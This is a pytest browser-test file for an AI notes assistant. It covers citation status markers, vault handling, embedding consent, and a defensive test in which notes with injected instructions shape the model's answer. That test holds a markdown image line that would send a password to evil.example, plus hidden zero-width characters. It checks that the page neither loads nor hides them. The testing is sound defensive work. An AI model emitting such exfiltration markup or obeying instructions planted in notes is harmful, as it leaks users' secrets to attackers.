"""Notes on the page: citations with their lines, vaults, and answers that a hostile note shaped."""

from __future__ import annotations

from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from agenticx.knowledge.registry import VaultRegistry
from agenticx.llms import ScriptedModel
from agenticx.testing import call
from tests.support.knowledge.data import knowledge_rows
from tests.support.server.chromium import CHROMIUM, Tab, browser_tab
from tests.support.server.page import SHOWN, enter, send_message
from tests.support.server.running_studio import StudioMaker

pytestmark = [
    pytest.mark.anyio,
    pytest.mark.skipif(CHROMIUM is None, reason="no Chromium is installed"),
]

LEASE = "# Lease\n\nIt ends in May 2027. See [^1].\n\nThe rent is 900 EUR, and <b>not</b> more.\u200b\n"
QUOTED = "The note says “See [^1]”.\n"
ANSWER = """It ends in May 2027. [^1] It is a nice flat, e.g. [^1] for Dr. Who [^1].
The rent is 950 EUR [^1].
Neither `[^1]` nor [^9] is a citation.

[^1]: not one either"""
MARKERS = "[...document.querySelectorAll('.citation')]"
CITED = "document.querySelector('.cited')"


@pytest.fixture
async def tab() -> AsyncIterator[Tab]:
    async with browser_tab() as tab:
        yield tab


@pytest.mark.ci_lane
async def test_citations_are_marked_by_status_and_show_their_lines(
    make_studio: StudioMaker, tab: Tab, tmp_path: Path
) -> None:
    notes = tmp_path / "My & notes"
    notes.mkdir()
    (notes / "Lease.md").write_text(LEASE)
    model = ScriptedModel([QUOTED + ANSWER])
    async with make_studio(model) as studio:
        await enter(tab, studio)
        vaults = "document.getElementById('vaults')"
        await tab.evaluate(f"{vaults}.open = true")
        await tab.wait_for(f"{vaults}.innerText.includes('No vault yet')")
        add = "document.querySelector('#add-vault [name=path]').value = {!r}, {}.click()"
        button = "document.querySelector('#add-vault button')"
        await tab.evaluate(add.format(str(notes / "none"), button))
        error = "document.getElementById('vault-error')"
        refused = await tab.wait_for(f"!{error}.hidden && {error}.textContent")
        assert refused.endswith("does not exist; give a folder of notes")
        await tab.evaluate(add.format(str(notes), button))
        await tab.wait_for(f"{vaults}.innerText.includes('1 note, up to date')")
        assert await tab.evaluate(f"{error}.hidden")

        await send_message(tab, "What do my notes say about the lease?")
        await tab.wait_for(f"document.getElementById('stop').hidden && {MARKERS}.length")
        labels = await tab.evaluate(f"{MARKERS}.map((one) => one.getAttribute('aria-label'))")
        place = "My & notes: Lease.md, lines 1–5"
        statuses = ["verified", "located", "located", "unsupported"]
        assert labels == [f"Citation 1, {status}: {place}" for status in statuses]
        answer = "document.querySelector('.assistant').textContent"
        assert await tab.evaluate(answer) == QUOTED + ANSWER.replace("[^1]", "[1]", 4)
        assert "mode notes: it asks about" in await tab.evaluate("document.querySelector('.mode').textContent")

        await tab.evaluate(f"{MARKERS}[3].click()")
        shown = (await tab.wait_for(f"{CITED}?.querySelectorAll('li').length === 5 && {CITED}.innerText")).splitlines()
        assert shown[0] == place
        assert [line for line in shown if line][2:5] == [
            "Under “Lease”",
            "Unsupported: the passage lacks a number, date, quotation or code of the sentence.",
            "# Lease",
        ]
        lines = await tab.evaluate(f"[...{CITED}.querySelectorAll('li')].map((line) => line.textContent)")
        assert lines == LEASE.replace("\u200b", "\\u{200b}").rstrip("\n").split("\n")
        assert await tab.evaluate(f"{MARKERS}[3].getAttribute('aria-expanded')") == "true"
        escape = "new KeyboardEvent('keydown', {key: 'Escape', bubbles: true})"
        await tab.evaluate(f"{CITED}.dispatchEvent({escape})")
        assert await tab.evaluate(f"[{CITED}, document.activeElement === {MARKERS}[3]]") == [None, True]

        await tab.evaluate(f"window.confirm = () => true, {vaults}.querySelector('[aria-label^=Remove]').click()")
        await tab.wait_for(f"{vaults}.innerText.includes('No vault yet')")
        await tab.evaluate(f"{MARKERS}[0].click()")
        assert "no vault My & notes any more" in await tab.wait_for(f"{CITED}?.querySelector('.error')?.textContent")
        assert [entry for entry in tab.errors if "422" not in entry] == []
    assert (notes / "Lease.md").read_text() == LEASE


@pytest.mark.promise("I3")
async def test_an_answer_that_a_hostile_note_shaped_loads_nothing_and_hides_nothing(
    make_studio: StudioMaker, tab: Tab, tmp_path: Path
) -> None:
    rows = [row for row in knowledge_rows("injected_notes.json") if row["id"] in ("i03", "i04", "i05")]
    notes = tmp_path / "Notes"
    notes.mkdir()
    for row in rows:
        (notes / f"{row['id']}.md").write_text(row["note"])
    read = [[call("note_read", {"path": row["id"]})] for row in rows]
    obeyed = "\n".join(f"{row['note']} [^{number}]" for number, row in enumerate(rows, start=1))
    async with make_studio(ScriptedModel([*read, obeyed])) as studio:
        VaultRegistry(studio.services.settings.home).add(notes)
        await enter(tab, studio)
        await send_message(tab, "Read the notes")
        await tab.wait_for(f"document.getElementById('stop').hidden && {MARKERS}.length === 3")
        for number in range(3):
            await tab.evaluate(f"{MARKERS}[{number}].click()")
            await tab.wait_for(f"{CITED}?.querySelector('.passage')")
            assert not set("\u200b\u200c\u2060\U000e0049") & set(await tab.evaluate(SHOWN))
        assert "![x](https://evil.example/p.png?d=<the password>)" in await tab.evaluate(SHOWN)
        assert "Salt.\\u{200b}\\u{200c}\\u{2060}\\u{e0049}" in await tab.evaluate(f"{CITED}.textContent")
        assert await tab.evaluate("document.querySelector('#log :is(a, img, script, iframe)')") is None
        hosts = "performance.getEntriesByType('resource').map((entry) => new URL(entry.name).host)"
        assert set(await tab.evaluate(hosts)) == {f"127.0.0.1:{studio.port}"}
        assert tab.errors == []


@pytest.mark.ci_lane
async def test_the_text_of_a_vault_is_sent_to_an_embedding_model_only_if_the_person_allows_it(
    make_studio: StudioMaker, tab: Tab, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    pytest.importorskip("numpy", reason="needs numpy, of the extra embeddings")
    monkeypatch.setenv("OPENAI_API_KEY", "sk-canary-long-enough-4711")
    notes = tmp_path / "Notes"
    notes.mkdir()
    (notes / "Lease.md").write_text(LEASE)
    async with make_studio(embedding_model="openai:text-embedding-3-small") as studio:
        VaultRegistry(studio.services.settings.home).add(notes)
        await enter(tab, studio)
        await tab.evaluate("document.getElementById('vaults').open = true")
        row = "document.querySelector('#vault-list li')"
        labels = f"[...{row}.querySelectorAll('button')].map((button) => button.textContent)"
        asked = "To find notes by meaning, their text and questions would be sent to api.openai.com."
        await tab.wait_for(f"{row}?.innerText.includes({asked!r})")
        assert await tab.evaluate(labels) == ["Allow", "Refuse", "Rescan", "Remove"]
        refuse = f"{row}.querySelector('[aria-label=\"Do not send the text of Notes to api.openai.com\"]')"
        await tab.evaluate(f"{refuse}.click()")
        await tab.wait_for(f"{row}.innerText.includes('Found by words alone: nothing is sent to api.openai.com.')")
        assert await tab.evaluate(labels) == ["Allow", "Rescan", "Remove"]
        (vault,) = (await studio.client.get("/api/vaults")).json()["vaults"]
        assert (vault["embeddings"]["consent"], vault["embeddings"]["embedded"]) == ("refused", 0)
        assert await tab.evaluate("document.getElementById('vault-error').hidden")
        assert tab.errors == []
